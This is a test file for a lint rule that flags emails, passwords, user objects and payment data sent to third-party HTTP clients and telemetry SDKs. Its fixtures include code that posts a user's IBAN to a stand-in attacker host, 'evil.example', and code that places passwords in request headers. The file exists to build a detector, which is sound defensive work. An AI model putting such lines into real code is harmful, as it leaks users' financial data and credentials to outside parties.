import rule from '../../src/rules/no-classified-third-party.js';
import { FIX, invalid as invalidCase, MODELS, wholeUser, type Expected } from '../helpers.js';
import type { SinkRuleOptions } from '../../src/rules/sinkRule.js';
import { typedRuleTester } from '../ruleTester.js';

const ruleTester = typedRuleTester();
const invalid = (code: string, expected: Expected, options?: SinkRuleOptions) =>
  invalidCase(
    code,
    { fix: expected.category?.includes('credential') ? FIX.credential : FIX.thirdParty, ...expected },
    options,
  );
const pii = ' (pii)';
const payment = ' (payment)';
const payoutAllow = {
  allow: [{ host: 'api.payouts.example', maxLevel: 'restricted' as const, categories: ['payment'] }],
};

ruleTester.run('no-classified-third-party', rule, {
  valid: [
    MODELS + `await fetch('https://api.example.com/users', { method: 'POST', body: JSON.stringify({ id: user.id }) });`,
    MODELS +
      `import { createTokenizer } from '@classified/core';\nimport { Analytics } from '@segment/analytics-node';\nconst tokenize = createTokenizer({ key: 'k'.repeat(32) });\nnew Analytics({ writeKey: 'w' }).identify({ userId: tokenize(email) });`,
    MODELS +
      `import { maskEmail } from '@classified/core';\nimport * as Sentry from '@sentry/core';\nSentry.setUser({ email: maskEmail(email) });`,
    // Internal data is allowed by default.
    MODELS + `import axios from 'axios';\nawait axios.post('https://api.example.com/events', { userId: user.id });`,
    // The approved payout provider may receive payment data…
    {
      code:
        MODELS +
        `import axios from 'axios';\nawait axios.post('https://api.payouts.example/v1/payouts', { iban: user.payouts[0]!.iban });`,
      options: [payoutAllow],
    },
    {
      code:
        MODELS +
        `import axios from 'axios';\nconst payouts = axios.create({ baseURL: 'https://eu.api.payouts.example' });\nawait payouts.post('/v1/payouts', { iban: user.payouts[0]!.iban });`,
      options: [payoutAllow],
    },
    // … and an approved SDK, named by its package.
    {
      code: MODELS + `import * as Sentry from '@sentry/core';\nSentry.captureMessage(\`\${score}\`);`,
      options: [{ allow: [{ from: 'package', package: '@sentry/*', maxLevel: 'confidential' }] }],
    },
    {
      code: MODELS + `await fetch('https://api.example.com', { body: String(score) });`,
      options: [{ maxLevel: 'confidential' }],
    },
    MODELS + `console.log(email);`,
  ],
  invalid: [
    invalid(MODELS + `await fetch(\`https://api.example.com/users?email=\${email}\`);`, {
      messageId: 'classified',
      line: 2,
      column: 13,
      arg: '`https://api.example.com/users?email=${email}`',
      at: 'email',
      path: 'email',
      category: pii,
      sink: 'fetch()',
      masker: 'maskEmail',
    }),
    invalid(MODELS + `await fetch('https://api.example.com', { method: 'POST', body: JSON.stringify(user) });`, {
      messageId: 'classified',
      line: 2,
      column: 40,
      arg: `{ method: 'POST', body: JSON.stringify(user) }`,
      at: 'user',
      ...wholeUser('user', true),
      sink: 'fetch()',
    }),
    invalid(
      MODELS + `await fetch('https://api.example.com', { headers: { Authorization: \`Bearer \${password}\` } });`,
      {
        messageId: 'classified',
        line: 2,
        column: 40,
        arg: '{ headers: { Authorization: `Bearer ${password}` } }',
        at: 'password',
        path: 'password',
        category: ' (credential)',
        sink: 'fetch()',
        masker: 'redactString',
      },
    ),
    invalid(MODELS + `import axios from 'axios';\nawait axios.post('https://api.example.com/users', user);`, {
      messageId: 'classified',
      line: 3,
      column: 51,
      arg: 'user',
      ...wholeUser('user', true),
      sink: 'axios.post()',
    }),
    invalid(MODELS + `import axios from 'axios';\nawait axios({ url: 'https://api.example.com', data: { email } });`, {
      messageId: 'classified',
      line: 3,
      column: 13,
      arg: `{ url: 'https://api.example.com', data: { email } }`,
      at: '{ email }',
      path: 'email',
      category: pii,
      sink: 'axios()',
      masker: 'maskEmail',
    }),
    invalid(MODELS + `import axios from 'axios';\nawait axios.get('https://api.example.com', { params: { email } });`, {
      messageId: 'classified',
      line: 3,
      column: 44,
      arg: '{ params: { email } }',
      at: '{ email }',
      path: 'email',
      category: pii,
      sink: 'axios.get()',
      masker: 'maskEmail',
    }),
    invalid(MODELS + `import axios from 'axios';\nconst api = axios.create({ headers: { 'X-Key': password } });`, {
      messageId: 'classified',
      line: 3,
      column: 26,
      arg: `{ headers: { 'X-Key': password } }`,
      at: 'password',
      path: 'password',
      category: ' (credential)',
      sink: 'axios.create()',
      masker: 'redactString',
    }),
    invalid(MODELS + `import got from 'got';\nawait got.post('https://api.example.com', { json: user });`, {
      messageId: 'classified',
      line: 3,
      column: 43,
      arg: '{ json: user }',
      at: 'user',
      ...wholeUser('user', true),
      sink: 'got.post()',
    }),
    invalid(MODELS + `import ky from 'ky';\nawait ky.post('https://api.example.com', { json: { email } });`, {
      messageId: 'classified',
      line: 3,
      column: 42,
      arg: '{ json: { email } }',
      at: '{ email }',
      path: 'email',
      category: pii,
      sink: 'ky.post()',
      masker: 'maskEmail',
    }),
    invalid(
      MODELS +
        `import { request } from 'undici';\nawait request('https://api.example.com', { method: 'POST', body: JSON.stringify(user) });`,
      {
        messageId: 'classified',
        line: 3,
        column: 42,
        arg: `{ method: 'POST', body: JSON.stringify(user) }`,
        at: 'user',
        ...wholeUser('user', true),
        sink: 'request()',
      },
    ),
    invalid(
      MODELS +
        `import { fetch as undiciFetch } from 'undici';\nawait undiciFetch(\`https://api.example.com/\${email}\`);`,
      {
        messageId: 'classified',
        line: 3,
        column: 19,
        arg: '`https://api.example.com/${email}`',
        at: 'email',
        path: 'email',
        category: pii,
        sink: 'undiciFetch()',
        masker: 'maskEmail',
      },
    ),
    invalid(
      MODELS + `import https from 'node:https';\nhttps.request({ host: 'api.example.com', path: \`/u/\${email}\` });`,
      {
        messageId: 'classified',
        line: 3,
        column: 15,
        arg: "{ host: 'api.example.com', path: `/u/${email}` }",
        at: 'email',
        path: 'email',
        category: pii,
        sink: 'https.request()',
        masker: 'maskEmail',
      },
    ),
    invalid(MODELS + `import http from 'node:http';\nhttp.get(\`http://api.example.com/\${email}\`);`, {
      messageId: 'classified',
      line: 3,
      column: 10,
      arg: '`http://api.example.com/${email}`',
      at: 'email',
      path: 'email',
      category: pii,
      sink: 'http.get()',
      masker: 'maskEmail',
    }),
    invalid(MODELS + `const xhr = new XMLHttpRequest();\nxhr.send(JSON.stringify(user));`, {
      messageId: 'classified',
      line: 3,
      column: 10,
      arg: 'JSON.stringify(user)',
      at: 'user',
      ...wholeUser('user', true),
      sink: 'xhr.send()',
    }),
    invalid(
      MODELS + `import * as Sentry from '@sentry/core';\nSentry.captureException(new Error('x'), { extra: { user } });`,
      {
        messageId: 'classified',
        line: 3,
        column: 41,
        arg: '{ extra: { user } }',
        at: '{ user }',
        ...wholeUser('user', true),
        sink: 'Sentry.captureException()',
      },
    ),
    invalid(MODELS + `import * as Sentry from '@sentry/core';\nSentry.captureMessage(\`failed for \${email}\`);`, {
      messageId: 'classified',
      line: 3,
      column: 23,
      arg: '`failed for ${email}`',
      at: 'email',
      path: 'email',
      category: pii,
      sink: 'Sentry.captureMessage()',
      masker: 'maskEmail',
    }),
    {
      code:
        `import { user, users, orders, email, password, score, type User, type LookAlike } from './models.js';\n` +
        `import * as Sentry from '@sentry/core';\n` +
        `Sentry.setUser({ email });`,
      errors: [
        {
          messageId: 'classified',
          line: 3,
          column: 16,
          data: {
            paths: '`email`',
            level: 'restricted',
            category: ' (pii)',
            sink: 'Sentry.setUser()',
            via: '',
            fix: 'Mask or tokenize it, declassify it with a reason, or list the recipient in `allow`.',
          },
          suggestions: [
            {
              messageId: 'suggestMask',
              data: { masker: 'maskEmail' },
              output:
                `import { maskEmail } from '@classified/core';\n` +
                `import { user, users, orders, email, password, score, type User, type LookAlike } from './models.js';\n` +
                `import * as Sentry from '@sentry/core';\n` +
                `Sentry.setUser({ email: maskEmail(email) });`,
            },
            {
              messageId: 'suggestDeclassify',
              output:
                `import { declassify } from '@classified/core';\n` +
                `import { user, users, orders, email, password, score, type User, type LookAlike } from './models.js';\n` +
                `import * as Sentry from '@sentry/core';\n` +
                `Sentry.setUser({ email: declassify(email, 'TODO: say why this data may leave its classification') });`,
            },
          ],
        },
      ],
    },
    invalid(MODELS + `import * as Sentry from '@sentry/core';\nSentry.setContext('user', { ...user });`, {
      messageId: 'classified',
      line: 3,
      column: 27,
      arg: '{ ...user }',
      at: 'user',
      ...wholeUser('user', true),
      sink: 'Sentry.setContext()',
    }),
    invalid(MODELS + `import * as Sentry from '@sentry/core';\nSentry.setExtra('email', email);`, {
      messageId: 'classified',
      line: 3,
      column: 26,
      arg: 'email',
      path: 'email',
      category: pii,
      sink: 'Sentry.setExtra()',
      masker: 'maskEmail',
    }),
    invalid(MODELS + `import * as Sentry from '@sentry/core';\nSentry.setTag('email', email);`, {
      messageId: 'classified',
      line: 3,
      column: 24,
      arg: 'email',
      path: 'email',
      category: pii,
      sink: 'Sentry.setTag()',
      masker: 'maskEmail',
    }),
    invalid(
      MODELS + `import * as Sentry from '@sentry/core';\nSentry.addBreadcrumb({ message: \`login \${email}\` });`,
      {
        messageId: 'classified',
        line: 3,
        column: 22,
        arg: '{ message: `login ${email}` }',
        at: 'email',
        path: 'email',
        category: pii,
        sink: 'Sentry.addBreadcrumb()',
        masker: 'maskEmail',
      },
    ),
    invalid(
      MODELS +
        `import { Analytics } from '@segment/analytics-node';\nconst analytics = new Analytics({ writeKey: 'w' });\nanalytics.identify({ userId: user.id, traits: { email } });`,
      {
        messageId: 'classified',
        line: 4,
        column: 20,
        arg: '{ userId: user.id, traits: { email } }',
        at: '{ email }',
        path: 'email',
        category: pii,
        sink: 'analytics.identify()',
        masker: 'maskEmail',
      },
    ),
    invalid(
      MODELS +
        `import { Analytics } from '@segment/analytics-node';\nconst analytics = new Analytics({ writeKey: 'w' });\nanalytics.track({ userId: email, event: 'Signed Up' });`,
      {
        messageId: 'classified',
        line: 4,
        column: 17,
        arg: `{ userId: email, event: 'Signed Up' }`,
        at: 'email',
        path: 'email',
        category: pii,
        sink: 'analytics.track()',
        masker: 'maskEmail',
      },
    ),
    invalid(
      MODELS +
        `import { Analytics } from '@segment/analytics-node';\nconst analytics = new Analytics({ writeKey: 'w' });\nanalytics.page({ userId: email });`,
      {
        messageId: 'classified',
        line: 4,
        column: 16,
        arg: '{ userId: email }',
        at: 'email',
        path: 'email',
        category: pii,
        sink: 'analytics.page()',
        masker: 'maskEmail',
      },
    ),
    invalid(
      MODELS +
        `import { Analytics } from '@segment/analytics-node';\nconst analytics = new Analytics({ writeKey: 'w' });\nanalytics.group({ userId: 'u', groupId: email });`,
      {
        messageId: 'classified',
        line: 4,
        column: 17,
        arg: `{ userId: 'u', groupId: email }`,
        at: 'email',
        path: 'email',
        category: pii,
        sink: 'analytics.group()',
        masker: 'maskEmail',
      },
    ),
    invalid(
      MODELS +
        `import { Analytics } from '@segment/analytics-node';\nconst analytics = new Analytics({ writeKey: 'w' });\nanalytics.alias({ userId: email, previousId: 'p' });`,
      {
        messageId: 'classified',
        line: 4,
        column: 17,
        arg: `{ userId: email, previousId: 'p' }`,
        at: 'email',
        path: 'email',
        category: pii,
        sink: 'analytics.alias()',
        masker: 'maskEmail',
      },
    ),
    invalid(
      MODELS + `import { PostHog } from 'posthog-node';\nnew PostHog('k').capture({ distinctId: email, event: 'e' });`,
      {
        messageId: 'classified',
        line: 3,
        column: 26,
        arg: `{ distinctId: email, event: 'e' }`,
        at: 'email',
        path: 'email',
        category: pii,
        sink: `new PostHog('k').capture()`,
        masker: 'maskEmail',
      },
    ),
    invalid(
      MODELS +
        `import { PostHog } from 'posthog-node';\nnew PostHog('k').identify({ distinctId: 'u', properties: { email } });`,
      {
        messageId: 'classified',
        line: 3,
        column: 27,
        arg: `{ distinctId: 'u', properties: { email } }`,
        at: '{ email }',
        path: 'email',
        category: pii,
        sink: `new PostHog('k').identify()`,
        masker: 'maskEmail',
      },
    ),
    invalid(
      MODELS + `import Mixpanel from 'mixpanel';\nconst mp = Mixpanel.init('t');\nmp.track('signup', { email });`,
      {
        messageId: 'classified',
        line: 4,
        column: 20,
        arg: '{ email }',
        at: '{ email }',
        path: 'email',
        category: pii,
        sink: 'mp.track()',
        masker: 'maskEmail',
      },
    ),
    invalid(
      MODELS +
        `import Mixpanel from 'mixpanel';\nconst mp = Mixpanel.init('t');\nmp.people.set('u', { $email: email });`,
      {
        messageId: 'classified',
        line: 4,
        column: 20,
        arg: '{ $email: email }',
        at: 'email',
        path: 'email',
        category: pii,
        sink: 'mp.people.set()',
        masker: 'maskEmail',
      },
    ),
    invalid(
      MODELS +
        `import { trace } from '@opentelemetry/api';\ntrace.getTracer('t').startSpan('s').setAttribute('user.email', email);`,
      {
        messageId: 'classified',
        line: 3,
        column: 64,
        arg: 'email',
        path: 'email',
        category: pii,
        sink: `trace.getTracer('t').startSpan('s').set…()`,
        masker: 'maskEmail',
      },
    ),
    invalid(
      MODELS +
        `import { trace } from '@opentelemetry/api';\ntrace.getActiveSpan()?.setAttributes({ 'user.email': email });`,
      {
        messageId: 'classified',
        line: 3,
        column: 38,
        arg: `{ 'user.email': email }`,
        at: 'email',
        path: 'email',
        category: pii,
        sink: 'trace.getActiveSpan()?.setAttributes()',
        masker: 'maskEmail',
      },
    ),
    invalid(
      MODELS + `import { trace } from '@opentelemetry/api';\ntrace.getActiveSpan()?.addEvent(\`login \${email}\`);`,
      {
        messageId: 'classified',
        line: 3,
        column: 33,
        arg: '`login ${email}`',
        at: 'email',
        path: 'email',
        category: pii,
        sink: 'trace.getActiveSpan()?.addEvent()',
        masker: 'maskEmail',
      },
    ),
    invalid(
      MODELS + `import { datadogRum } from '@datadog/browser-rum';\ndatadogRum.setUser({ id: user.id, email });`,
      {
        messageId: 'classified',
        line: 3,
        column: 20,
        arg: '{ id: user.id, email }',
        at: 'email',
        shorthand: true,
        path: 'email',
        category: pii,
        sink: 'datadogRum.setUser()',
        masker: 'maskEmail',
      },
    ),
    invalid(
      MODELS +
        `import { datadogRum } from '@datadog/browser-rum';\ndatadogRum.addAction('checkout', { card: orders[0]!.card });`,
      {
        messageId: 'classified',
        line: 3,
        column: 34,
        arg: '{ card: orders[0]!.card }',
        at: 'orders[0]!.card',
        path: 'orders[0].card',
        category: payment,
        sink: 'datadogRum.addAction()',
        masker: 'maskCard',
      },
    ),
    invalid(MODELS + `import tracer from 'dd-trace';\ntracer.scope().active()?.setTag('user.email', email);`, {
      messageId: 'classified',
      line: 3,
      column: 47,
      arg: 'email',
      path: 'email',
      category: pii,
      sink: 'tracer.scope().active()?.setTag()',
      masker: 'maskEmail',
    }),
    // The approved recipient gets its categories only, and no more than its level.
    invalid(
      MODELS +
        `import axios from 'axios';\nawait axios.post('https://api.payouts.example/v1/payouts', { iban: user.payouts[0]!.iban, email });`,
      {
        messageId: 'classified',
        line: 3,
        column: 60,
        arg: '{ iban: user.payouts[0]!.iban, email }',
        at: 'email',
        shorthand: true,
        path: 'email',
        category: pii,
        sink: 'axios.post()',
        masker: 'maskEmail',
      },
      payoutAllow,
    ),
    invalid(
      MODELS +
        `import axios from 'axios';\nawait axios.post('https://evil.example/v1/payouts', { iban: user.payouts[0]!.iban });`,
      {
        messageId: 'classified',
        line: 3,
        column: 53,
        arg: '{ iban: user.payouts[0]!.iban }',
        at: 'user.payouts[0]!.iban',
        path: 'user.payouts[0].iban',
        category: payment,
        sink: 'axios.post()',
        masker: 'redactString',
      },
      payoutAllow,
    ),
    invalid(
      MODELS + `import * as Sentry from '@sentry/core';\nSentry.captureMessage(\`\${email}\`);`,
      {
        messageId: 'classified',
        line: 3,
        column: 23,
        arg: '`${email}`',
        at: 'email',
        path: 'email',
        category: pii,
        sink: 'Sentry.captureMessage()',
        masker: 'maskEmail',
      },
      { allow: [{ from: 'package', package: '@sentry/*', maxLevel: 'confidential' }] },
    ),
    // Confidential is above the default Internal for third parties.
    invalid(MODELS + `await fetch('https://api.example.com', { body: String(score) });`, {
      messageId: 'classified',
      line: 2,
      column: 40,
      arg: '{ body: String(score) }',
      at: 'score',
      path: 'score',
      level: 'confidential',
      sink: 'fetch()',
    }),
    // Through a wrapper.
    invalid(
      MODELS +
        `import axios from 'axios';\nasync function notify(payload: object) { await axios.post('https://hooks.example.com', payload); }\nawait notify({ email });`,
      {
        messageId: 'classified',
        line: 4,
        column: 14,
        arg: '{ email }',
        at: '{ email }',
        path: 'email',
        category: pii,
        sink: `axios.post()`,
        via: ' through `notify()`',
        masker: 'maskEmail',
      },
    ),
  ],
});
